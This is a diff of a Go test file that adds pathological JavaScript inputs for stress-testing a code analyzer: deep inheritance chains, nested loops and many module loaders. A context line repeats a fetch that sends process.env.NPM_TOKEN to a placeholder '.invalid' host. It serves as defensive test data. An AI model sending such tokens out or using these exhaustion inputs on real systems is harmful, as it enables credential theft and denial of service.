@@ -114,6 +114,18 @@ var hostileFiles = []func() hostile{
 	func() hostile {
 		return hostile{"secrets in one function", "a.js", repeated(20_000, "fetch('https://x%d.invalid/'+process.env.NPM_TOKEN);")}
 	},
+	func() hostile {
+		return hostile{"many that load modules", "a.js", "t={" + repeated(5000, "%d:(e,x,r)=>{e.exports=r(1)},") + "};" + repeated(5000, "function r%d(i){return t[i](m,m.exports,r0)}")}
+	},
+	func() hostile {
+		return hostile{"classes of classes", "a.js", "class A0{}" + repeated(10_000, "A%d;") + inherited(10_000)}
+	},
+	func() hostile {
+		return hostile{"loops in loops", "a.js", "l='" + strings.Repeat("a", 250) + "';" + strings.Repeat("for(const a of l)for(const b of l)for(const c of l)x+=c;", 500)}
+	},
+	func() hostile {
+		return hostile{"maps of maps", "a.js", "l=[" + repeated(5000, "['k%d',1],") + "];" + strings.Repeat("new Map(l).entries();Object.entries(Object.fromEntries(l));", 5000)}
+	},
 	func() hostile { return hostile{"handlers", "a.js", repeated(50_000, "w.on('x',m=>{g(%d,m)});")} },
 	func() hostile { return hostile{"classes", "a.js", repeated(50_000, "class A%d{f(){return this.g()}}")} },
 	func() hostile {
@@ -129,6 +141,15 @@ func bundleOf(n int) string {
 		fmt.Fprintf(&b, "%d:function(e,t,r){\"use strict\";var n=r(%d),o=r(%d);t.a=function(e){return e.map(function(e){return n.b(e.%c,{x:%d,y:[\"k%d\",o.c]})}).filter(Boolean)},t.b=class{constructor(e){this.x=e}get(t){return t?this.x[t]||(this.x[t]=o.c(t)):null}}},", i, i+1, i+2, 'a'+i%26, i, i)
 	}
 	b.WriteString("};function r(t){return e[t](t,{},r)}r(0)}()")
+	return b.String()
+}
+
+// inherited is n classes, each of which has a method more than the one before.
+func inherited(n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, "class A%d extends A%d{m%d(){return super.m%d()}}", i+1, i, i+1, i)
+	}
 	return b.String()
 }
 
